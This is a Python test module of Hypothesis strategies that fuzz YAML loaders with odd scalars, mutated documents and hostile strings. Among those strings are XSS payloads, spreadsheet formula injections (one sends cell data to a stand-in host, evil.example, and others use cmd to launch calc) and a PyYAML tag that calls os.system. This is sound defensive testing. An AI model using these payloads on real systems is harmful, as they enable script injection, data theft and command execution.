"""Hypothesis strategies for hostile input: odd YAML values, broken documents, XSS payloads.

The loaders are fed three kinds of input: raw text; YAML scalars that PyYAML turns into
surprising Python values (dates that do not exist, huge numbers, tags, anchors, deep
nesting); and a *valid* document with a few of its values replaced, removed or added, which
reaches the deep checks that random text never gets past.
"""

from __future__ import annotations

import copy
import datetime as dt
from collections.abc import Callable
from typing import Any

from hypothesis import strategies as st

#: Text that attacks pages, spreadsheets and shells when echoed back unescaped.
HOSTILE_TEXTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(2)</script>",
    "javascript:alert(3)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "{{ 7*7 }}",
    "{% raw %}x",
    "Ünïcödé — ‮evil",
    "a\x00b",
]

#: YAML scalars that PyYAML resolves into values a loader may not expect.
TRICKY_SCALARS = [
    "2024-13-45",  # a date that does not exist: PyYAML raises ValueError, not YAMLError
    "2024-02-30 10:00:00",
    "2001-12-14t21:59:43.10-05:00",
    "99999999999999999999999999999",
    "-0",
    "0x1F",
    "0o17",
    "1e400",
    ".inf",
    "-.inf",
    ".nan",
    "~",
    "null",
    "yes",
    "No",
    "on",
    "12:30:45",
    "!!binary aGVsbG8=",
    "!!set {a, b}",
    "!!omap [a: 1]",
    "!!python/object/apply:os.system ['true']",
    "!!str 5",
    "!!int abc",
    "!!float xyz",
    "!!timestamp nonsense",
    "&a [*a]",
    "*undefined",
    "[" * 1000,
    "{" * 1000,
    "? [a, b]\n: c",
    "'unterminated",
    '"\\x"',
    "\t- tab",
    "%YAML 9.9\n---\nx",
    "--- a\n--- b",
    "<<: {a: 1}",
    "<<: 5",
]


def _keys() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.text(max_size=12),
        st.integers(-3, 3),
        st.sampled_from(["key", "type", "next", "end", "nodes", "items", "weight"]),
        st.booleans(),
        st.none(),
    )


def yaml_values() -> st.SearchStrategy[Any]:
    """Any value ``yaml.safe_load`` can produce, bent toward edge cases."""
    leaves = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.integers(min_value=-(10**30), max_value=10**30),
        st.floats(allow_nan=True, allow_infinity=True),
        st.text(max_size=30),
        # Valid as a key or slug, but longer than any column holds.
        st.text(alphabet="abc-", min_size=81, max_size=300),
        st.sampled_from(HOSTILE_TEXTS),
        st.dates(),
        st.datetimes(timezones=st.none() | st.just(dt.UTC)),
        st.binary(max_size=8),
    )
    return st.recursive(
        leaves,
        lambda children: st.one_of(
            st.lists(children, max_size=4),
            st.dictionaries(_keys(), children, max_size=4),
        ),
        max_leaves=12,
    )


def _paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every position in a nested document (``()`` is the whole document)."""
    found = [path]
    if isinstance(value, dict):
        for key, child in value.items():
            found.extend(_paths(child, (*path, key)))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found.extend(_paths(child, (*path, index)))
    return found


def _at(document: Any, path: tuple[Any, ...]) -> Any:
    for step in path:
        document = document[step]
    return document


@st.composite
def mutated(draw: Callable[..., Any], document: Any, max_changes: int = 3) -> Any:
    """``document`` (a valid one) with one to ``max_changes`` values replaced, dropped or
    added: each change keeps the rest valid, so the loader's deepest checks run."""
    document = copy.deepcopy(document)
    for _ in range(draw(st.integers(1, max_changes))):
        path = draw(st.sampled_from(_paths(document)))
        action = draw(st.sampled_from(["replace", "replace", "drop", "add", "empty"]))
        if not path:
            if action == "replace":
                document = draw(yaml_values())
            continue
        parent, last = _at(document, path[:-1]), path[-1]
        if action == "replace":
            parent[last] = draw(yaml_values())
        elif action == "drop":
            del parent[last]
        elif action == "empty":
            value = parent[last]
            parent[last] = type(value)() if isinstance(value, str | list | dict) else ""
        elif isinstance(parent, dict):
            parent[draw(_keys())] = draw(yaml_values())
        else:
            parent.insert(last, draw(yaml_values()))
    return document


def yaml_texts() -> st.SearchStrategy[str]:
    """Raw text: random characters, tricky scalars, and lines of YAML put together."""
    line = st.one_of(
        st.sampled_from(TRICKY_SCALARS).map(lambda s: f"key: {s}"),
        st.sampled_from(TRICKY_SCALARS),
        st.text(max_size=40),
        st.sampled_from(["items:", "nodes:", "  - key: a", "    next: b", "columns:"]),
    )
    return st.one_of(
        st.text(max_size=200),
        st.sampled_from(TRICKY_SCALARS),
        st.lists(line, min_size=1, max_size=8).map("\n".join),
    )
